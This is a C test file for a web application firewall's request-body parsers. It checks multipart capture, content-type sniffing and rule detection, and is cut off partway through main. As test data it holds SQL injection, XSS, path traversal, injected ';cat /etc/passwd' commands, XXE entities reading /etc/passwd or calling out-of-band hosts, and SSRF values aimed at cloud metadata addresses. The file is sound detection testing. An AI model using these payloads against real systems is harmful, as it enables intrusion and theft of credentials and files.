/* The body parsers: fields, paths, bounds, truncated bodies. */
#include <apr_strings.h>

#include <unistd.h>

#include "lw_test_engine.h"
#include "lw_body.h"
#include "lw_sig.h"
#include "lw_engine.h"

/* Every field as "path|name|value" lines ("-" for a missing name or
 * value), in one string. */
typedef struct {
    apr_pool_t *p;
    char *out;
    int n;
} acc_t;

static int collect(void *ctx, const lw_body_field_t *f)
{
    acc_t *a = ctx;
    a->out = apr_psprintf(a->p, "%s%.*s|%s|%s\n", a->out, (int)f->path_len,
                          f->path,
                          f->name ? apr_pstrmemdup(a->p, f->name, f->name_len)
                                  : "-",
                          f->value ? apr_pstrmemdup(a->p, f->value,
                                                    f->value_len)
                                   : "-");
    a->n++;
    return 0;
}

static const char *split(apr_pool_t *p, const char *ct, const char *body,
                         int *more)
{
    acc_t a = { p, "", 0 };
    int m = 0, n = lw_body_split(ct, body, strlen(body), p, collect, &a, &m);
    if (more)
        *more = m;
    if (n < 0)
        return NULL;
    CHECK(n == a.n);
    return a.out;
}

/* A multipart body through the streaming capture (lw_body_mp_feed) with
 * size bytes of room, fed in pieces of chunk bytes (0: whole); the split
 * of what was kept, or "CUT:" and it when bytes to keep were lost. */
static apr_size_t mp_kept;    /* what the last mp_capture kept */

static const char *mp_capture(apr_pool_t *p, const char *ct, const char *body,
                              apr_size_t len, apr_size_t size,
                              apr_size_t chunk, int *done)
{
    lw_body_mp_t m;
    apr_size_t blen = 0, off = 0;
    const char *b = lw_body_boundary(ct, &blen);
    acc_t a = { p, "", 0 };
    int more = 0;

    CHECK(b != NULL);
    if (!b)
        return NULL;
    lw_body_mp_init(&m, b, blen);
    m.buf = apr_palloc(p, size + 1);
    m.size = size;
    while (off < len) {
        apr_size_t n = chunk && chunk < len - off ? chunk : len - off;
        if (lw_body_mp_feed(&m, body + off, n))
            break;
        off += n;
    }
    if (done)
        *done = m.done;
    lw_body_mp_end(&m);
    CHECK(m.len <= size);
    mp_kept = m.len;
    lw_body_split(ct, m.buf, m.len, p, collect, &a, &more);
    return m.cut ? apr_pstrcat(p, "CUT:", a.out, NULL) : a.out;
}

static const char mp_ct[] = "multipart/form-data; boundary=\"--x Y\"";

/* A part of mp_ct's body: a field, or a file when fname. */
static char *mp_part(apr_pool_t *p, const char *name, const char *fname,
                     const char *value)
{
    return apr_psprintf(p, "----x Y\r\nContent-Disposition: form-data; "
                        "name=\"%s\"%s%s%s\r\n%s\r\n%s\r\n", name,
                        fname ? "; filename=\"" : "", fname ? fname : "",
                        fname ? "\"" : "",
                        fname ? "Content-Type: image/png\r\n" : "", value);
}

static void mp_stream_tests(apr_pool_t *p)
{
    apr_size_t i, big = 100000;
    char *file = apr_palloc(p, big + 1), *body, *s;
    const char *whole;
    int done = 0;

    /* a binary file, with lines that almost are the delimiter
     * ("----x Y" after a newline) */
    for (i = 0; i < big; i++)
        file[i] = (char)((i * 7 + 3) % 251 + 1);
    for (i = 1000; i + 12 < big; i += 3001)
        memcpy(file + i, "\r\n----x Z", 9);
    for (i = 2000; i + 12 < big; i += 3001)
        memcpy(file + i, "\n----x ", 7);
    file[big] = '\0';
    body = apr_pstrcat(p, mp_part(p, "user", NULL, "bob"),
                       mp_part(p, "up", "photo.png", file),
                       mp_part(p, "q", NULL, "1' union select pass from users-- "),
                       "----x Y--\r\nepilogue", NULL);
    whole = split(p, mp_ct, body, NULL);
    CHECK_STR(whole, "user|user|bob\nup.filename|up|photo.png\n"
              "q|q|1' union select pass from users-- \n");
    /* a field after a file larger than the room: kept, not cut, whatever
     * the pieces the body came in (a delimiter split anywhere) */
    CHECK_STR(mp_capture(p, mp_ct, body, strlen(body), 4096, 0, &done), whole);
    CHECK(done == 1);
    for (i = 1; i <= 13; i++)
        CHECK_STR(mp_capture(p, mp_ct, body, strlen(body), 4096, i, NULL),
                  whole);
    CHECK_STR(mp_capture(p, mp_ct, body, strlen(body), 4096, 4093, NULL),
              whole);
    /* every split point of a small body gives the same capture */
    {
        const char *small = apr_pstrcat(p, mp_part(p, "a", NULL, "1"),
                                        mp_part(p, "f", "x.txt", "abc\r\n--x"),
                                        mp_part(p, "q", NULL, "v\n--"),
                                        "----x Y--", NULL);
        const char *want = split(p, mp_ct, small, NULL);
        apr_size_t n = strlen(small), k;
        CHECK_STR(want, "a|a|1\nf.filename|f|x.txt\nq|q|v\n--\n");
        for (k = 0; k <= n; k++) {
            lw_body_mp_t m;
            apr_size_t blen = 0;
            const char *b = lw_body_boundary(mp_ct, &blen);
            acc_t a = { p, "", 0 };
            int more;
            lw_body_mp_init(&m, b, blen);
            m.buf = apr_palloc(p, n);
            m.size = n;
            lw_body_mp_feed(&m, small, k);
            lw_body_mp_feed(&m, small + k, n - k);
            lw_body_mp_end(&m);
            lw_body_split(mp_ct, m.buf, m.len, p, collect, &a, &more);
            CHECK(!m.cut && m.done);
            CHECK_STR(a.out, want);
        }
    }
    /* no close delimiter: the field is kept all the same */
    s = apr_pstrcat(p, mp_part(p, "up", "a.bin", file), "----x Y\r\n"
                    "Content-Disposition: form-data; name=\"q\"\r\n\r\n"
                    "<script>alert(1)</script>", NULL);
    CHECK_STR(mp_capture(p, mp_ct, s, strlen(s), 2048, 0, &done),
              "up.filename|up|a.bin\nq|q|<script>alert(1)</script>\n");
    CHECK(done == 0);
    /* a field without a file name is a field, however long: cut */
    s = apr_pstrcat(p, mp_part(p, "big", NULL, file),
                    mp_part(p, "q", NULL, "x"), NULL);
    whole = mp_capture(p, mp_ct, s, strlen(s), 2048, 0, &done);
    CHECK(strncmp(whole, "CUT:big|big|", 12) == 0);
    CHECK(done == 1);
    /* the delimiter after a file that no longer fits: cut (the fields
     * after it are lost); the close delimiter lost is no cut */
    s = apr_pstrcat(p, mp_part(p, "a", NULL, "1234567890"),
                    mp_part(p, "up", "a.bin", file), "----x Y--", NULL);
    whole = mp_capture(p, mp_ct, s, strlen(s), 4096, 0, NULL);
    CHECK_STR(whole, "a|a|1234567890\nup.filename|up|a.bin\n");
    i = mp_kept;
    CHECK_STR(mp_capture(p, mp_ct, s, strlen(s), i - 2, 0, NULL), whole);
    CHECK(strncmp(mp_capture(p, mp_ct, s, strlen(s), i - 3, 0, NULL), "CUT:",
                  4) == 0);
    /* an XML file's prolog is kept for its document type declaration,
     * a file of another kind not at all */
    s = apr_pstrcat(p, mp_part(p, "img", "a.svg", apr_pstrcat(p,
                    "\xef\xbb\xbf\n<?xml version=\"1.0\"?>\n<!DOCTYPE s [<!ENTITY x "
                    "SYSTEM \"file:///etc/passwd\">]><svg>", file, NULL)),
                    mp_part(p, "q", NULL, "1"), "----x Y--", NULL);
    CHECK_STR(mp_capture(p, mp_ct, s, strlen(s), LW_BODY_FILE_HEAD + 4096, 0,
                         NULL),
              "img.filename|img|a.svg\nimg.!doctype|-|<!DOCTYPE s [<!ENTITY "
              "x SYSTEM \"file:///etc/passwd\">]>\nq|q|1\n");
    /* ten thousand tiny parts: bounded by the room, cut past it */
    {
        char *many = apr_palloc(p, 10000 * 80), *w = many;
        for (i = 0; i < 10000; i++)
            w += sprintf(w, "----x Y\r\nContent-Disposition: form-data; "
                         "name=\"f%u\"; filename=\"\"\r\n\r\n\r\n", (unsigned)i % 10);
        CHECK(strncmp(mp_capture(p, mp_ct, many, (apr_size_t)(w - many),
                                 65536, 1000, NULL), "CUT:", 4) == 0);
        CHECK(strncmp(mp_capture(p, mp_ct, many, (apr_size_t)(w - many),
                                 (apr_size_t)(w - many), 777, NULL), "CUT:", 4) != 0);
    }
    /* the epilogue is not kept; the preamble is (a body declared
     * multipart may be no such thing) */
    s = "a=1&q=%3Cscript%3E";
    CHECK_STR(mp_capture(p, mp_ct, s, strlen(s), 100, 3, NULL),
              "a|a|1\nq|q|%3Cscript%3E\n");
}

/* A rule on body alone, loaded with the default set: its examples are
 * checked with their query sent as a form body. */
static const char body_rule[] =
    "rule 990001\n"
    "  category  probe\n"
    "  severity  critical\n"
    "  msg       test: a body field holding the word canary-body\n"
    "  target    body\n"
    "  literal   canary-body\n"
    "  pattern   canary-body\n"
    "  match     /x?a=canary-body\n"
    "  nomatch   /x?a=canary\n";

#define SNIFF(s) lw_body_sniff(s, sizeof(s) - 1)

static lw_engine_t *engine(apr_pool_t *p)
{
    char path[] = "/tmp/lw-test-body-XXXXXX";
    lw_ruleset_t *rs = lw_ruleset_create(p);
    lw_engine_t *e = NULL;
    char *err = NULL;
    void *blob;
    apr_size_t len;
    int fd = mkstemp(path);
    FILE *f;

    if (fd < 0 || !(f = fdopen(fd, "w")))
        return NULL;
    fputs(body_rule, f);
    fclose(f);
    if (lw_ruleset_load(rs, apr_pstrcat(p, lw_test_srcdir(),
                                        "/conf/signatures", NULL), &err)
            != APR_SUCCESS
        || lw_ruleset_load(rs, path, &err) != APR_SUCCESS
        || lw_ruleset_compile(rs, p, &blob, &len, &err) != APR_SUCCESS
        || lw_engine_create(&e, blob, len, p, &err) != APR_SUCCESS)
        fprintf(stderr, "signatures: %s\n", err ? err : "?");
    unlink(path);
    return e;
}

/* Classify a POST of body; the field of the first hit of category cat
 * (-1: any), or "" when not flagged, NULL when flagged by none of cat. */
static const char *post(apr_pool_t *p, const lw_engine_t *e, const char *ct,
                        const char *body, int cat, lw_result_t *res)
{
    lw_request_t req;
    int i;

    lw_test_request(&req, "POST", "/app/login.php", NULL, 0);
    req.body = body;
    req.body_len = strlen(body);
    req.body_type = ct;
    if (!lw_classify(e, &req, NULL, p, res))
        return "";
    for (i = 0; i < res->nhits; i++)
        if (cat < 0 || res->hits[i].category == cat)
            return res->hits[i].field;
    return NULL;
}

static void engine_tests(apr_pool_t *p)
{
    lw_engine_t *e = engine(p);
    lw_result_t res;
    static const char form[] = "application/x-www-form-urlencoded";
    static const char mp[] = "multipart/form-data; boundary=B";

    CHECK(e != NULL);
    if (!e)
        return;
    CHECK_STR(post(p, e, form, "user=admin%27+or+%271%27%3D%271%27--+&pw=x",
                   LW_CAT_SQLI, &res), "body:form:user");
    CHECK_STR(post(p, e, form, "user=bob&pw=hunter2&remember=on", -1, &res),
              "");
    CHECK_STR(post(p, e, "application/json",
                   "{\"user\": {\"name\": \"x\\u0027 union select "
                   "password from users--\"}}", LW_CAT_SQLI, &res),
              "body:json:$.user.name");
    CHECK_STR(post(p, e, "application/json",
                   "{\"<script>alert(document.cookie)</script>\": 1}",
                   LW_CAT_XSS, &res),
              "body_names:json:$.<script>alert(document.cookie)</script>");
    CHECK_STR(post(p, e, "application/json",
                   "{\"user\": {\"name\": \"O'Brien\", \"bio\": \"Member of the "
                   "teachers union since 2010, select committee\"}}", -1, &res), "");
    /* a file's name is inspected, never its content */
    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
                   "name=\"up\"; filename=\"../../../../etc/passwd\"\r\n\r\n"
                   "hello\r\n--B--\r\n", LW_CAT_LFI, &res),
              "body:multipart:up.filename");
    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
                   "name=\"up\"; filename=\"notes.txt\"\r\n\r\n"
                   "' union select password from users-- <script>alert(1)"
                   "</script> ../../../../etc/passwd; cat /etc/shadow\r\n"
                   "--B--\r\n", -1, &res), "");
    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
                   "name=\"cmd\"\r\n\r\n;cat /etc/passwd\r\n--B--\r\n",
                   LW_CAT_RCE, &res), "body:multipart:cmd");
    CHECK_STR(post(p, e, "text/xml", "<a><q>&lt;script&gt;alert(1)&lt;/script"
                   "&gt;</q></a>", LW_CAT_XSS, &res), "body:xml:/a/q");
    /* XXE: the document type declaration is a field the rules read */
    CHECK_STR(post(p, e, "application/xml", "<?xml version=\"1.0\"?>\n"
                   "<!DOCTYPE r [\n  <!ENTITY e SYSTEM \"http://oob.example.net/"
                   "x\">\n]>\n<r>&e;</r>", LW_CAT_LFI, &res),
              "body:xml:!doctype");
    CHECK_STR(post(p, e, "application/soap+xml", "<!DOCTYPE s [<!ENTITY % d "
                   "SYSTEM \"https://oob.example.net/d.dtd\"> %d;]><s:Envelope "
                   "xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body>"
                   "<q>1</q></s:Body></s:Envelope>", LW_CAT_LFI, &res),
              "body:xml:!doctype");
    CHECK_STR(post(p, e, "text/xml", "<!DOCTYPE r SYSTEM \"http://203.0.113.5/"
                   "e.dtd\"><r>1</r>", LW_CAT_LFI, &res), "body:xml:!doctype");
    CHECK_STR(post(p, e, "text/xml", "<doc xmlns:xi=\"http://www.w3.org/2001/"
                   "XInclude\"><xi:include parse=\"text\" href=\"/etc/hostname\"/>"
                   "</doc>", LW_CAT_LFI, &res), "body:xml:/doc@xmlns:xi");
    /* as an attacker writes it: case, line breaks and no blanks where
     * XML allows none, a long comment before it, padding inside it */
    CHECK_STR(post(p, e, "text/xml", "<!DocType\n\tr[\n<!eNtItY%x\tSYSTEM\n"
                   "'http://oob.example.net/x'>%x;]><r/>", LW_CAT_LFI, &res),
              "body:xml:!doctype");
    {
        char *pad = apr_palloc(p, 12001);
        memset(pad, ' ', 12000);
        pad[12000] = '\0';
        CHECK_STR(post(p, e, "text/xml", apr_pstrcat(p, "<?xml version=\"1.0\""
                       "?><!--", pad, "--><!DOCTYPE r [", pad, "<!ENTITY e "
                       "SYSTEM \"file:///etc/hostname\">]><r>&e;</r>", NULL),
                       LW_CAT_LFI, &res), "body:xml:!doctype");
    }
    {
        /* UTF-16LE with its byte order mark, declared XML or text/plain */
        static const char ascii[] = "<?xml version=\"1.0\" encoding=\"UTF-16\""
            "?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>"
            "<r>&e;</r>";
        static const char *const ut[2] = { "text/xml; charset=utf-16",
                                           "text/plain" };
        apr_size_t i, t, n = sizeof(ascii) - 1;
        char *w = apr_pcalloc(p, 2 * n + 2);
        lw_request_t req;
        memcpy(w, "\xff\xfe", 2);
        for (i = 0; i < n; i++)
            w[2 + 2 * i] = ascii[i];
        lw_test_request(&req, "POST", "/app/soap", NULL, 0);
        req.body = w;
        req.body_len = 2 * n + 2;
        for (t = 0; t < 2; t++) {
            req.body_type = ut[t];
            CHECK(lw_classify(e, &req, NULL, p, &res));
            CHECK(res.nhits > 0 && (res.categories & (1u << LW_CAT_LFI)));
            for (i = 0; i < (apr_size_t)res.nhits; i++)
                if (res.hits[i].category == LW_CAT_LFI)
                    CHECK_STR(res.hits[i].field, "body:xml:!doctype");
        }
    }
    CHECK_STR(post(p, e, "application/json", "{\"src\": \"HTTP:\\/\\/169.254."
                   "169.254\\/latest\\/\"}", LW_CAT_RFI, &res),
              "body:json:$.src");
    CHECK_STR(post(p, e, "application/json", "{\"tpl\": \"\\\\\\\\evil.example"
                   ".net\\\\share\\\\x.php\"}", LW_CAT_RFI, &res),
              "body:json:$.tpl");
    /* benign: public DTDs, no entity; SOAP and feeds without a DOCTYPE */
    CHECK_STR(post(p, e, "application/xml", "<?xml version=\"1.0\" encoding="
                   "\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST "
                   "1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">"
                   "\n<plist version=\"1.0\"><dict><key>Name</key><string>Ann"
                   "</string></dict></plist>", -1, &res), "");
    CHECK_STR(post(p, e, "application/xhtml+xml", "<!DOCTYPE html PUBLIC "
                   "\"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/"
                   "xhtml1/DTD/xhtml1-strict.dtd\"><html xmlns=\"http://www.w3.org"
                   "/1999/xhtml\"><body><p>Tom &amp; Jerry</p></body></html>", -1,
                   &res), "");
    CHECK_STR(post(p, e, "text/xml", "<soap:Envelope xmlns:soap=\"http://"
                   "schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPrice>"
                   "<Item>Apples</Item><Callback>https://shop.example.com/hook"
                   "</Callback></GetPrice></soap:Body></soap:Envelope>", -1, &res),
              "");
    /* an uploaded SVG's prolog; a benign one with a public DTD */
    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
                   "name=\"up\"; filename=\"logo.svg\"\r\nContent-Type: "
                   "image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg "
                   "[<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>"
                   "\r\n--B--\r\n", LW_CAT_LFI, &res),
              "body:multipart:up.!doctype");
    CHECK_STR(post(p, e, mp, "--B\r\nContent-Disposition: form-data; "
                   "name=\"up\"; filename=\"logo.svg\"\r\n\r\n<!DOCTYPE svg "
                   "PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics"
                   "/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/"
                   "svg\"><circle r=\"4\"/></svg>\r\n--B--\r\n", -1, &res), "");
    /* remote inclusion and SSRF in body values */
    CHECK_STR(post(p, e, "application/json", "{\"avatar\": {\"url\": "
                   "\"http://169.254.169.254/latest/meta-data/\"}}", LW_CAT_RFI,
                   &res), "body:json:$.avatar.url");
    CHECK_STR(post(p, e, form, "tpl=%5C%5Cevil.example.net%40SSL%5CDavWWWRoot"
                   "%5Cx.php&go=1", LW_CAT_RFI, &res), "body:form:tpl");
    CHECK_STR(post(p, e, "text/xml", "<cfg><feed>smb://203.0.113.5/share/x.php"
                   "</feed></cfg>", LW_CAT_RFI, &res), "body:xml:/cfg/feed");
    CHECK_STR(post(p, e, "application/json", "{\"webhook\": \"https://hooks."
                   "example.com/services/T0/B0\", \"redirect_uri\": \"https://"
                   "app.example.com/oauth/callback\", \"avatar\": \"https://"
                   "cdn.example.com/avatars/u123.png?s=64\", \"feed\": \"https://"
                   "my-blog.example/rss.xml\"}", -1, &res), "");
    /* a body field longer than max_inspect is read whole: no cut, no
     * evasion signal, and an attack padded past max_inspect is found */
    {
        char *pad = apr_palloc(p, 12001);
        memset(pad, 'a', 12000);
        pad[12000] = '\0';
        CHECK_STR(post(p, e, "application/json", apr_pstrcat(p,
                       "{\"article\": \"", pad, " the end\"}", NULL), -1,
                       &res), "");
        CHECK_STR(post(p, e, form, apr_pstrcat(p, "q=", pad,
                       "+%27+union+select+password+from+users--", NULL),
                       LW_CAT_SQLI, &res), "body:form:q");
    }
    /* classified again with the body read since: the rules the first
     * result counted are not counted twice, the body's are counted */
    {
        lw_request_t req;
        lw_result_t first, again;
        int qi = -1, bi = -1, i;
        apr_uint32_t qh, bh = 0;

        lw_test_request(&req, "POST", "/s.php?q=%27+union+select+password+from+users--", NULL, 0);
        CHECK(lw_classify(e, &req, NULL, p, &first));
        qi = first.hits[0].rule_index;
        qh = lw_engine_rule_hits(e, qi);
        req.body = "c=%3Csvg+onload%3Dalert(document.domain)%3E";
        req.body_len = strlen(req.body);
        req.body_type = form;
        CHECK(lw_classify_again(e, &req, NULL, p, &again, &first, NULL));
        for (i = 0; i < again.nhits; i++)
            if (strcmp(again.hits[i].field, "body:form:c") == 0)
                bi = again.hits[i].rule_index;
        CHECK(bi >= 0 && bi != qi);
        if (bi >= 0)
            bh = lw_engine_rule_hits(e, bi);
        CHECK(lw_engine_rule_hits(e, qi) == qh);
        CHECK(lw_classify_again(e, &req, NULL, p, &again, NULL, NULL));
        CHECK(lw_engine_rule_hits(e, qi) == qh + 1);
        CHECK(bi >= 0 && lw_engine_rule_hits(e, bi) == bh + 1);
    }
    /* past LW_BODY_MAX_FIELDS fields, each later field is read all the
     * same, labelled by the kind alone: padding with fields hides
     * nothing */
    {
        char *pad = apr_palloc(p, 2 * 1100 + 1);
        int i;
        for (i = 0; i < 1100; i++)
            memcpy(pad + 2 * i, "a&", 2);
        pad[2 * 1100] = '\0';
        CHECK_STR(post(p, e, form, apr_pstrcat(p, pad, "q=1+union+select+"
                       "password+from+users--", NULL), LW_CAT_SQLI, &res),
                  "body:form");
        CHECK_STR(post(p, e, form, apr_pstrcat(p, pad, "q=hello+world",
                       NULL), -1, &res), "");
    }
    /* the rule on body alone */
    CHECK_STR(post(p, e, form, "a=1&b=canary-body", LW_CAT_PROBE, &res),
              "body:form:b");
    /* a Content-Type of no declared kind, or none: read by its bytes,
     * the kind it was read as in the field */
    CHECK_STR(post(p, e, "text/plain", "user=admin%27+or+%271%27%3D%271%27--+",
                   LW_CAT_SQLI, &res), "body:form:user");
    CHECK_STR(post(p, e, "", "{\"id\": \"1' union select password from "
                   "users--\"}", LW_CAT_SQLI, &res), "body:json:$.id");
    CHECK_STR(post(p, e, "text/plain; charset=utf-8", "<?xml version=\"1.0\"?>"
                   "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                   "<r>&e;</r>", LW_CAT_LFI, &res), "body:xml:!doctype");
    CHECK_STR(post(p, e, "application/x-made-up", "q=1 union select "
                   "password from users--", LW_CAT_SQLI, &res), "body:form:q");
    CHECK_STR(post(p, e, "application/octet-stream", "1' union select "
                   "password from users-- ", LW_CAT_SQLI, &res), "body:text");
    CHECK_STR(post(p, e, "Application/JSON ; charset=utf-8", "{\"a\": \"1' "
                   "union select password from users--\"}", LW_CAT_SQLI,
                   &res), "body:json:$.a");
    /* declared multipart, sent as JSON (no delimiter): read as JSON */
    CHECK_STR(post(p, e, "multipart/form-data; boundary=zz", "{\"id\": \"1' "
                   "union select password from users--\"}", LW_CAT_SQLI,
                   &res), "body:json:$.id");
    /* declared JSON, sent as XML: read as what it is */
    CHECK_STR(post(p, e, "application/json", "<!DOCTYPE r [<!ENTITY e SYSTEM "
                   "\"file:///etc/passwd\">]><r>&e;</r>", LW_CAT_LFI, &res),
              "body:xml:!doctype");
    /* benign text and binary are not flagged */
    CHECK_STR(post(p, e, "text/plain", "Hello, I would like to order two "
                   "tickets for Friday; my number is (555) 010-2030.", -1,
                   &res), "");
    {
        static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
                                  "<script>alert(1)</script>";
        lw_request_t req;
        lw_test_request(&req, "POST", "/up", NULL, 0);
        req.body = png;
        req.body_len = sizeof(png) - 1;
        req.body_type = "application/octet-stream";
        CHECK(lw_classify(e, &req, NULL, p, &res) == 0);
    }
}

/* The remote-inclusion and XXE rules alone on long hostile values in a
 * JSON body, a Cookie header and another header: no pattern backtracks
 * into a PCRE2 limit (which would flag the request as an evasion). The
 * regex budget may run out on such values: that is its purpose. */
static void rfi_xxe_limits(apr_pool_t *p)
{
    static const char *const files[] = { "/conf/signatures/40-rfi.rules",
                                         "/conf/signatures/45-xxe.rules" };
    static const char *const heads[] = {
        "http://[", "http://", "http://", "//x.example.org/",
        "\\\\\\\\", "<!DOCTYPE x PUBLIC \"", "<x:include ", "http://x/",
        "https://", "smb://x/", "http://" };
    static const char *const units[] = {
        ":", "1.", "a.b.", "a%41", "a.", "-/", "a", "a.txt", "a.b.c.",
        "a ", "0x1." };
    lw_ruleset_t *rs = lw_ruleset_create(p);
    lw_engine_t *e = NULL;
    void *blob;
    apr_size_t len;
    char *err = NULL;
    int k, f, i;

    for (f = 0; f < 2; f++)
        if (lw_ruleset_load(rs, apr_pstrcat(p, lw_test_srcdir(), files[f],
                                            NULL), &err) != APR_SUCCESS)
            break;
    if (f < 2 || lw_ruleset_compile(rs, p, &blob, &len, &err) != APR_SUCCESS
        || lw_engine_create(&e, blob, len, p, &err) != APR_SUCCESS) {
        fprintf(stderr, "rfi/xxe rules: %s\n", err ? err : "?");
        CHECK(0);
        return;
    }
    for (k = 0; k < (int)(sizeof(units) / sizeof(units[0])); k++) {
        char *v = apr_pstrdup(p, heads[k]);
        lw_request_t req;
        lw_header_t h[2];
        lw_result_t res;
        while (strlen(v) < 7000)
            v = apr_pstrcat(p, v, units[k], NULL);
        lw_test_request(&req, "POST", "/api/fetch", NULL, 0);
        h[0].name = "Cookie";
        h[0].value = apr_pstrcat(p, "sid=1; u=", v, NULL);
        h[1].name = "X-Api-Url";
        h[1].value = v;
        req.headers = h;
        req.nheaders = 2;
        req.body = apr_pstrcat(p, "{\"u\": \"", v, "\"}", NULL);
        req.body_len = strlen(req.body);
        req.body_type = "application/json";
        lw_classify(e, &req, NULL, p, &res);
        for (i = 0; i < res.nhits; i++)
            if (res.hits[i].detail && strstr(res.hits[i].detail, "PCRE2")) {
                fprintf(stderr, "PCRE2 limit on %s%s... (%s)\n", heads[k],
                        units[k], res.hits[i].field);
                CHECK(0);
            }
    }
}

int main(void)
{
    LW_TEST_BEGIN(p);
    int more;

    mp_stream_tests(p);

    /* kinds */
    CHECK(lw_body_kind("application/x-www-form-urlencoded; charset=UTF-8")
          == LW_BODY_FORM);
    CHECK(lw_body_kind("Multipart/Form-Data; boundary=x") == LW_BODY_MULTIPART);
    CHECK(lw_body_kind("application/json") == LW_BODY_JSON);
    CHECK(lw_body_kind("application/vnd.api+json") == LW_BODY_JSON);
    CHECK(lw_body_kind("application/soap+xml; charset=utf-8") == LW_BODY_XML);
    CHECK(lw_body_kind("text/xml") == LW_BODY_XML);
    CHECK(lw_body_kind("text/plain") == LW_BODY_NONE);
    CHECK(lw_body_kind("application/octet-stream") == LW_BODY_NONE);
    CHECK(lw_body_kind("+json") == LW_BODY_NONE);
    CHECK(lw_body_kind(NULL) == LW_BODY_NONE);
    /* odd case, blanks and parameters */
    CHECK(lw_body_kind("Application/X-WWW-Form-Urlencoded ; charset=UTF-8")
          == LW_BODY_FORM);
    CHECK(lw_body_kind("application/x-www-form-urlencoded;") == LW_BODY_FORM);
    CHECK(lw_body_kind(" \tApplication/JSON ; charset=utf-8") == LW_BODY_JSON);
    CHECK(lw_body_kind("multipart/mixed; boundary=x") == LW_BODY_MULTIPART);
    CHECK(lw_body_kind("multipart/") == LW_BODY_NONE);

    /* sniffing: a body of no declared kind is read by its first bytes */
    CHECK(SNIFF(" \r\n<?xml version='1.0'?><a/>") == LW_BODY_XML);
    CHECK(lw_body_sniff("\xef\xbb\xbf{\"a\":1}", 10) == LW_BODY_JSON);
    CHECK(lw_body_sniff("[1]", 3) == LW_BODY_JSON);
    CHECK(lw_body_sniff("a%5B%5D=1&b=2", 13) == LW_BODY_FORM);
    CHECK(lw_body_sniff("=x", 2) == LW_BODY_TEXT);
    CHECK(lw_body_sniff("hello world a=b", 15) == LW_BODY_TEXT);
    CHECK(SNIFF("caf\xe9 cr\xe8me") == LW_BODY_TEXT);
    CHECK(lw_body_sniff(" \r\n\t", 4) == LW_BODY_NONE);
    CHECK(lw_body_sniff("", 0) == LW_BODY_NONE);
    CHECK(lw_body_sniff(NULL, 0) == LW_BODY_NONE);
    /* not text: PNG, ZIP, JPEG, UTF-16, a NUL */
    CHECK(lw_body_sniff("\x89PNG\r\n\x1a\n", 8) == LW_BODY_NONE);
    CHECK(lw_body_sniff("PK\x03\x04a=b", 7) == LW_BODY_NONE);
    CHECK(lw_body_sniff("\xff\xd8\xff\xe0\0\x10JFIF", 10) == LW_BODY_NONE);
    CHECK(lw_body_sniff("<\0a\0>\0", 6) == LW_BODY_NONE);
    /* UTF-16 XML after its byte order mark is XML, in either order */
    CHECK(lw_body_sniff("\xff\xfe<\0a\0>\0", 8) == LW_BODY_XML);
    CHECK(lw_body_sniff("\xfe\xff\0<\0a\0>", 8) == LW_BODY_XML);
    CHECK(lw_body_sniff("\xff\xfe" "a\0", 4) == LW_BODY_NONE);
    CHECK(lw_body_sniff("a=1&b=\0", 7) == LW_BODY_NONE);
    CHECK(lw_body_is_text("a\tb\r\n\fc", 7) && !lw_body_is_text("a\x7f", 2));
    /* past the first LW_BODY_SNIFF bytes, a control byte is not looked at */
    {
        char big[LW_BODY_SNIFF + 2];
        memset(big, 'a', sizeof(big));
        big[0] = '{';
        big[LW_BODY_SNIFF] = '\0';
        CHECK(lw_body_sniff(big, sizeof(big)) == LW_BODY_JSON);
        big[LW_BODY_SNIFF - 1] = '\0';
        CHECK(lw_body_sniff(big, sizeof(big)) == LW_BODY_NONE);
    }
    /* the declared kind, unless the body says otherwise */
    CHECK(lw_body_kind_of("application/json", "<a/>", 4) == LW_BODY_XML);
    CHECK(lw_body_kind_of("application/json", " \"s\"", 4) == LW_BODY_JSON);
    CHECK(lw_body_kind_of("text/xml", "{\"a\":1}", 7) == LW_BODY_JSON);
    CHECK(lw_body_kind_of("text/xml", "", 0) == LW_BODY_XML);
    CHECK(lw_body_kind_of("application/x-www-form-urlencoded", "<a>", 3)
          == LW_BODY_FORM);
    CHECK(lw_body_kind_of("multipart/form-data", "a=b", 3) == LW_BODY_FORM);
    CHECK(lw_body_kind_of("multipart/form-data; boundary=x", "--x\r\n", 5)
          == LW_BODY_MULTIPART);
    CHECK(lw_body_kind_of("multipart/form-data; boundary=x", "", 0)
          == LW_BODY_MULTIPART);
    CHECK(lw_body_kind_of("image/png", "\x89PNG\r\n\x1a\n", 8) == LW_BODY_NONE);
    CHECK(lw_body_kind_of("multipart/form-data; boundary=x", "{\"a\":1}", 7)
          == LW_BODY_JSON);
    CHECK(lw_body_kind_of("multipart/form-data; boundary=x", "pre\r\n--x\r\n",
                          10) == LW_BODY_MULTIPART);
    CHECK(lw_body_kind_of(NULL, "<a/>", 4) == LW_BODY_XML);
    CHECK_STR(lw_body_kind_name(LW_BODY_TEXT), "text");
    /* the splits of sniffed bodies */
    CHECK_STR(split(p, "text/plain", "a=b", NULL), "a|a|b\n");
    CHECK_STR(split(p, "", "just text", NULL), "|-|just text\n");
    CHECK_STR(split(p, "application/octet-stream", "{\"k\": \"v\"}", NULL),
              "$.k|k|v\n");
    CHECK(split(p, "application/octet-stream", "\x1f\x8b\x08", NULL) == NULL);

    /* form */
    CHECK_STR(split(p, "application/x-www-form-urlencoded",
                    "user=bob&pw=a%27+or+1%3D1&flag&=v&&x=", NULL),
              "user|user|bob\npw|pw|a%27+or+1%3D1\nflag|flag|-\n||v\n"
              "x|x|\n");
